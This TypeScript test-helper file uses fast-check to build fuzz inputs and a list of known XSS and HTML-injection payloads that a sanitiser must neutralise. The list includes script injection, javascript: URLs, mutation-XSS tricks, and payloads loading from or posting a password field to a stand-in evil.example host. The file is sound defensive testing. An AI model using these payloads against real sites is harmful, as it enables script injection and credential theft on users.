import fc from 'fast-check';

const strangeText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 600 }),
  fc.constantFrom(
    '\u0000',
    '\ud800',
    '%',
    "'; DROP TABLE",
    '{{7*7}}',
    '٠٧٨٨١٢٣٤٥٦',
    '-1',
    '9'.repeat(400),
    '__proto__',
  ),
);
/** Any JSON value, and typical wrong inputs of people and attackers. */
export const strange = fc.oneof(
  strangeText,
  fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<unknown>,
  fc.double(),
  fc.maxSafeInteger(),
);

/** Every place of a value in a body. */
export function placesOf(value: unknown, path: string[] = []): string[][] {
  if (value === null || typeof value !== 'object') return [path];
  return [path, ...Object.entries(value).flatMap(([key, inner]) => placesOf(inner, [...path, key]))];
}

/** The body with `value` at that place. */
export function put(body: unknown, path: readonly string[], value: unknown): unknown {
  const [key, ...rest] = path;
  if (key === undefined) return value;
  const copy = Array.isArray(body) ? [...body] : { ...(body as object) };
  (copy as Record<string, unknown>)[key] = put((body as Record<string, unknown>)[key], rest, value);
  return copy;
}

/** Markup of known attacks. None of it may have any effect after `cleanHtml`. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script foo>',
  '<img src=x onerror=alert(1)>',
  '<img src="/gallery/../api/v1/users/logout">',
  '<img src="/gallery/tomato-0123456789ab.webp" onload="alert(1)" style="position:fixed">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/gallery/tomato-0123456789ab.webp">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="https://evil.example/x 1x" src="/gallery/tomato-0123456789ab.webp">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="/" target="_blank" onclick="alert(1)" style="color:red" id="x" name="y" class="z">x</a>',
  '<a href="/" onmouseover=alert(1)//">x</a>',
  '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
  '<p id="root" class="fixed inset-0" data-x="1" dir="rtl" contenteditable>x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!doctype html><body onload=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p><a href="/"><p>x</a></p>',
  '</p></div></main><script>alert(1)</script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p\0>a\0b</p\0>',
  '<p>\ud800 half a sign</p>',
  `${'<blockquote>'.repeat(5_000)}x`,
  '<p title="',
  '<',
  '<a href="https://shop.example/"',
];
